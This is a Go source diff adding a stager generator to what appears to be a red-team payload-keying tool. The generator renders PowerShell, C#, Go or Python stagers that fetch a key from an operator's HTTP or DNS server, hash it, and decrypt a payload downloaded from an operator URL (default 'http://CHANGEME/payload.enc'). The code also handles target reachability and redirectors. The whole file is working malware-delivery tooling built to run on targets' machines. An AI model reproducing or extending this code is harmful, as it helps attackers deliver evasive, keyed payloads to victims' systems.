@@ -0,0 +1,230 @@
+package stager
+
+import (
+	"bytes"
+	"embed"
+	"errors"
+	"net"
+	"sort"
+	"strconv"
+	"strings"
+	"text/template"
+
+	"github.com/leoloobeek/keyserver/servers"
+)
+
+// Stagers fetch a key the same way a target would, hash it and use the hash
+// to decrypt a payload made with the encrypt command. The templates are mostly
+// fixed code with a block of settings filled in from the key and servers.
+
+//go:embed templates/*.tmpl
+var templateFS embed.FS
+
+// Placeholder is used for anything the operator still needs to fill in, such
+// as the public address of a server listening on all interfaces or on an
+// address targets can't reach
+const Placeholder = "CHANGEME"
+
+// language describes a stager template, the hashes it can compute without
+// extra libraries and whether it can only query nameservers on port 53
+type language struct {
+	template  string
+	hashes    []string
+	port53DNS bool
+}
+
+var languages = map[string]*language{
+	"powershell": {"powershell.ps1.tmpl", []string{"hmac-sha256", "md5", "sha1", "sha256", "sha512"}, true},
+	"csharp":     {"csharp.cs.tmpl", []string{"hmac-sha256", "md5", "sha1", "sha256", "sha512"}, false},
+	"go":         {"go.go.tmpl", servers.HashAlgorithms(), false},
+	"python":     {"python.py.tmpl", servers.HashAlgorithms(), false},
+}
+
+// Options holds stager settings that don't come from the key
+type Options struct {
+	PayloadURL string // where the stager downloads the encrypted payload
+}
+
+// templateData is what the templates are rendered with
+type templateData struct {
+	KeyName        string
+	KeyType        string
+	URL            string
+	Hostname       string
+	RecordType     string
+	TXTRecords     bool
+	Nameserver     string
+	NameserverPort int
+	SelectorType   string
+	SelectorRegex  string
+	Offset         int
+	Length         int
+	Hash           string
+	HmacSecret     string
+	PayloadURL     string
+}
+
+// Languages returns the names of the supported stager languages
+func Languages() []string {
+	var names []string
+	for name := range languages {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	return names
+}
+
+// Generate renders the stager source for a key in the given language
+// returns: the source and which of the key's hashes it uses
+func Generate(name string, k *servers.Key, h *servers.HttpServer, d *servers.DnsServer, lang string, opts Options) (string, string, error) {
+	l, ok := languages[lang]
+	if !ok {
+		return "", "", errors.New("Unsupported language, use one of: " + strings.Join(Languages(), ", "))
+	}
+
+	data := &templateData{
+		KeyName:    name,
+		KeyType:    k.Type,
+		HmacSecret: k.Data["HmacSecret"].Value,
+		PayloadURL: opts.PayloadURL,
+	}
+	if data.PayloadURL == "" {
+		data.PayloadURL = "http://" + Placeholder + "/payload.enc"
+	}
+
+	hash, err := pickHash(k, l)
+	if err != nil {
+		return "", "", err
+	}
+	data.Hash = hash
+
+	switch k.Type {
+	case "http":
+		err = httpData(data, k, h)
+	case "dns":
+		err = dnsData(data, k, d)
+	default:
+		err = errors.New("Unknown key type: " + k.Type)
+	}
+	if err != nil {
+		return "", "", err
+	}
+	if l.port53DNS && data.Nameserver != "" && data.NameserverPort != 53 {
+		return "", "", errors.New("The DNS server listens on port " + strconv.Itoa(data.NameserverPort) + " but " + lang + " stagers can only query port 53, listen on 53 or use another language")
+	}
+
+	tmpl, err := template.New(l.template).Funcs(template.FuncMap{
+		"quote":   strconv.Quote,
+		"psquote": psQuote,
+	}).ParseFS(templateFS, "templates/"+l.template)
+	if err != nil {
+		return "", "", err
+	}
+	var source bytes.Buffer
+	if err := tmpl.Execute(&source, data); err != nil {
+		return "", "", err
+	}
+	return source.String(), hash, nil
+}
+
+// pickHash chooses the key's hash for the stager, sha512 if the language
+// supports it otherwise the first the language supports
+func pickHash(k *servers.Key, l *language) (string, error) {
+	var supported []string
+	hashes := k.GetHashes()
+	for _, alg := range l.hashes {
+		if _, ok := hashes[alg]; ok {
+			supported = append(supported, alg)
+		}
+	}
+	if len(supported) == 0 {
+		return "", errors.New("Key has no hash this language supports, add one of: " + strings.Join(l.hashes, ", "))
+	}
+	for _, alg := range supported {
+		if alg == "sha512" {
+			return alg, nil
+		}
+	}
+	return supported[0], nil
+}
+
+func httpData(data *templateData, k *servers.Key, h *servers.HttpServer) error {
+	scheme, defaultPort := "http", "80"
+	if h.Setting("CertPath") != "" && h.Setting("KeyPath") != "" {
+		scheme, defaultPort = "https", "443"
+	}
+	host := publicHost(h.Setting("Listen"))
+	if port := h.Setting("Port"); port != defaultPort {
+		host = net.JoinHostPort(host, port)
+	} else if strings.Contains(host, ":") {
+		host = "[" + host + "]"
+	}
+	data.URL = scheme + "://" + host + k.Data["URL"].Value
+
+	selector := k.Data["KeySelector"].Value
+	switch {
+	case selector == "":
+	case strings.HasPrefix(selector, "regex:"):
+		data.SelectorType = "regex"
+		data.SelectorRegex = strings.TrimPrefix(selector, "regex:")
+	case strings.HasPrefix(selector, "offset:"):
+		parts := strings.Split(strings.TrimPrefix(selector, "offset:"), ":")
+		if len(parts) != 2 {
+			return errors.New("Invalid KeySelector offset")
+		}
+		data.SelectorType = "offset"
+		data.Offset, _ = strconv.Atoi(parts[0])
+		data.Length, _ = strconv.Atoi(parts[1])
+	default:
+		return errors.New("Stagers can't select elements by id, use a 'regex:' or 'offset:' KeySelector instead")
+	}
+	return nil
+}
+
+func dnsData(data *templateData, k *servers.Key, d *servers.DnsServer) error {
+	if k.Data["HostnameMatch"].Value != "exact" {
+		return errors.New("Stagers need an exact Hostname, a pattern's response changes with the query")
+	}
+	data.RecordType = strings.ToUpper(k.Data["RecordType"].Value)
+	if data.RecordType != "A" && data.RecordType != "TXT" {
+		return errors.New("Stagers only support A and TXT keys")
+	}
+	data.TXTRecords = k.Data["TXTSplit"].Value == "records"
+
+	domain := strings.TrimSuffix(d.Setting("Domain"), ".")
+	if hostname := k.Data["Hostname"].Value; hostname == "@" {
+		data.Hostname = domain
+	} else {
+		data.Hostname = hostname + "." + domain
+	}
+
+	// query the DNS server directly if it listens on a specific address,
+	// otherwise leave it to the target's resolver
+	if listen := d.Setting("Listen"); publicHost(listen) != Placeholder {
+		data.Nameserver = listen
+	}
+	data.NameserverPort, _ = strconv.Atoi(d.Setting("Port"))
+	if data.NameserverPort == 0 {
+		data.NameserverPort = 53
+	}
+	return nil
+}
+
+// publicHost returns the Placeholder unless a server listens on an address
+// targets could reach, a server on all interfaces, loopback or a private
+// network is most likely behind a redirector
+func publicHost(listen string) string {
+	if strings.EqualFold(listen, "localhost") {
+		return Placeholder
+	}
+	ip := net.ParseIP(listen)
+	if listen == "" || (ip != nil && (ip.IsUnspecified() || ip.IsLoopback() || ip.IsPrivate() || ip.IsLinkLocalUnicast())) {
+		return Placeholder
+	}
+	return listen
+}
+
+// psQuote returns a single quoted PowerShell string, which doesn't expand variables
+func psQuote(s string) string {
+	return "'" + strings.Replace(s, "'", "''", -1) + "'"
+}